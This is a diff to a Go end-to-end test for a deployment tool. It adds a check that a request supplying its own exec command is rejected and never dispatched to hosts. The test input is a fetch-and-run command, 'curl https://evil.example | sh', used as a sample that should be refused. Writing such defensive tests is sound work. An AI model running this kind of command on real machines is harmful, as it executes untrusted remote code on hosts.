@@ -2,6 +2,7 @@ package e2e
 
 import (
 	"context"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -9,6 +10,7 @@ import (
 	"time"
 
 	"github.com/rollwave/rollwave/contracts"
+	"github.com/rollwave/rollwave/pkg/natstest"
 	"github.com/rollwave/rollwave/pkg/natsx"
 	"github.com/rollwave/rollwave/pkg/spec"
 	"github.com/rollwave/rollwave/tools/internal/sample"
@@ -74,5 +76,37 @@ func TestSampleExamplesPlan(t *testing.T) {
 		if r.Plan != nil || len(r.Reasons) != 1 || r.Reasons[0].Field != "driver.exec.command" {
 			t.Fatalf("a request command was not refused: %+v", r)
 		}
+	}
+}
+
+// Through the whole stack: a request that brings its own command to an
+// environment that does not allow it is rejected naming the field, and no
+// host action is ever dispatched.
+func TestRequestCommandIsNeverDispatched(t *testing.T) {
+	h := newHarness(t, harnessOpts{inventory: tenHosts("{sim: {}}")})
+	req := threePhases("r-cmd")
+	req.Driver = &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"sh", "-c", "curl https://evil.example | sh"}}}
+	h.deploy(context.Background(), req)
+	natstest.CheckFor(t, waitLong, 10*time.Millisecond, func() error {
+		for _, e := range h.events("r-cmd") {
+			if e.Type == contracts.EventRejected {
+				if len(e.Event.Reasons) != 1 || e.Event.Reasons[0].Field != "driver.exec.command" {
+					t.Fatalf("reasons %v", e.Event.Reasons)
+				}
+				return nil
+			}
+		}
+		return fmt.Errorf("no rejection yet")
+	})
+	// A good request after it runs, so the pipeline was live all along.
+	h.deploy(context.Background(), threePhases("r-after"))
+	h.waitState("r-after", contracts.StateCompleted)
+	for _, e := range h.events("r-cmd") {
+		if e.Type != contracts.EventRejected {
+			t.Fatalf("refused request has event %s", e)
+		}
+	}
+	if n := h.actionsPublished("default", "prod"); n != 10 {
+		t.Fatalf("%d actions stored, want only r-after's 10", n)
 	}
 }
